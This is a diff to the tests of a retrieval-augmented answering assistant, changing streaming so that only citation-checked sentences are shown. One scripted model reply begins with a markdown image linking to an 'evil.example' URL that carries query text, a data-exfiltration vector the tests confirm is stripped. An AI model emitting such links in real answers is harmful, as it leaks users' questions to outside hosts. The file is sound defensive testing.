@@ -124,7 +124,7 @@ def test_openai_answer_keeps_supported_sentences_with_exact_quotes(store, embedd
     assert set(answer.to_dict()) == {"question", "answer", "abstained", "citations", "timeline"}
 
 
-def test_openai_stream_tokens_then_checked_answer_without_remote_image(store, embedder, settings):
+def test_openai_stream_checked_sentences_then_answer_without_remote_image(store, embedder, settings):
     def reply(body: dict) -> str:
         n = passage_number(user_prompt(body), "Aurelia")
         return (f"![chart](https://evil.example/leak.png?q=ferry) The ferry Aurelia carries 240 passengers [{n}]. "
@@ -134,11 +134,12 @@ def test_openai_stream_tokens_then_checked_answer_without_remote_image(store, em
     with ScriptedLLM("openai", [reply]) as server:
         assistant = assistant_for(store, embedder, settings, "openai:gpt-4o-mini", server)
         stream = assistant.stream("How many passengers does the ferry Aurelia carry?")
-        assert isinstance(stream, AnswerStream) and stream.draft and stream.answer is None
+        assert isinstance(stream, AnswerStream) and not stream.draft and stream.answer is None
         pieces = list(stream)
         answer = stream.answer
     assert server.requests[0]["stream"] is True
-    assert len(pieces) > 10 and "".join(pieces) == reply(server.requests[0])  # token by token, as sent
+    # (issue 12: the pieces were the model's tokens, as sent; now each checked sentence once it passed)
+    assert pieces == ["The ferry Aurelia carries 240 passengers [1].", " It crosses Lake Orrin in 35 minutes [2]."]
     assert "evil.example" not in answer.text and "![" not in answer.text and "chart" not in answer.text
     assert answer.text == "The ferry Aurelia carries 240 passengers [1]. It crosses Lake Orrin in 35 minutes [2]."
     check_quotes(assistant, answer)
@@ -196,7 +197,7 @@ def test_ollama_stream_and_follow_up_rewritten_by_the_llm(store, embedder, setti
     assert rewrite["model"] == "llama3.2" and rewrite["stream"] is False
     assert "and the old one?" in user_prompt(rewrite) and "Tell me about the new ferry Aurelia" in user_prompt(rewrite)
     assert final["stream"] is True and f"Question: {rewritten}" in user_prompt(final)
-    assert "".join(pieces) == answer_reply(final)
+    assert "".join(pieces) == answer.text  # checked sentences only (issue 12; they were the model's tokens)
     assert answer.question == "and the old one?" and not answer.abstained
     assert answer.text == "Harbour master Piet Zoller said the old diesel ferry will be sold to a museum [1]."
     check_quotes(assistant, answer)
@@ -448,7 +449,7 @@ def test_cli_stream_and_notice(store, capsys, monkeypatch):
     assert err.count("\n") == 1 and "openai:m" in err and "extractive" in err
     assert main(["ask", DAM_Q, "--index", index, "--llm", "openai:m", "--json"]) == 0
     out, err = capsys.readouterr()
-    assert json.loads(out)["notice"] and "rag:" in err
+    assert json.loads(out)["notice"] and json.loads(out)["notice"] in err  # (its prefix is the CLI's choice)
 
     def reply(body: dict) -> str:
         n = passage_number(user_prompt(body), "Brightwater")
@@ -458,10 +459,10 @@ def test_cli_stream_and_notice(store, capsys, monkeypatch):
         monkeypatch.setenv("OPENAI_BASE_URL", server.url)
         assert main(["ask", DAM_Q, "--index", index, "--llm", "openai:m", "--stream"]) == 0
     out, err = capsys.readouterr()
-    draft, checked = out.split("Checked answer:")  # not a terminal: the draft, then the checked answer
-    assert "Giants did it [9]" in draft and "Giants" not in checked
-    assert "It flooded 412 homes in the valley [1]" in checked
-    assert "chars " in checked and not err
+    # only checked sentences are printed (issue 12: the draft with "Giants did it [9]" was printed, then replaced)
+    assert "Giants" not in out and "Checked answer" not in out
+    assert out.startswith("It flooded 412 homes in the valley [1].\n\nSources:")
+    assert "chars " in out and not err
     with pytest.raises(SystemExit):
         main(["ask", DAM_Q, "--llm", "gpt-4o"])
     assert "unknown LLM" in capsys.readouterr().err
@@ -541,7 +542,7 @@ def test_llm_timeline_question_gets_a_dated_timeline_from_its_citations(news_sto
             stream = assistant.stream("what happened in Dovrin?")
             pieces = list(stream)
             answer = stream.answer
-            assert "".join(pieces) == dovrin_reply(server.requests[0])  # the draft is the model's text
+            assert "".join(pieces) == answer.text  # checked sentences (issue 12: they were the model's text)
         else:
             answer = assistant.ask("what happened in Dovrin?")
     assert not answer.abstained and not answer.notice and NOTE not in answer.text
@@ -579,9 +580,9 @@ def test_llm_citing_one_figure_gets_the_other_side_cited_and_a_note(news_store, 
         assistant = assistant_for(news_store, embedder, settings, "openai:m", server)
         if streamed:
             stream = assistant.stream(HARKAVY_Q)
-            draft = "".join(stream)
+            shown = "".join(stream)
             answer = stream.answer
-            assert draft == harkavy_128_reply(server.requests[0]) and NOTE not in draft
+            assert shown == answer.text  # the note streamed after the checked sentence (issue 12: it was not)
         else:
             answer = assistant.ask(HARKAVY_Q)
     assert not answer.abstained and not answer.notice
